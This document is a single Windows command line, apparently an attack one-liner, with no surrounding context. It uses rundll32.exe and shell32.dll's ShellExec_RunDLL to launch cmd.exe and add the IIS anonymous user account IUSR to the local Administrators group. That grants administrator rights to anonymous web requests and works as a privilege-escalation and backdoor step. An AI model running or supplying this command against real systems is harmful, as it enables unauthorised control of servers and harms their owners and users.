rundll32.exe shell32.dll,ShellExec_RunDLL cmd.exe /c net localgroup Administrators IUSR /add
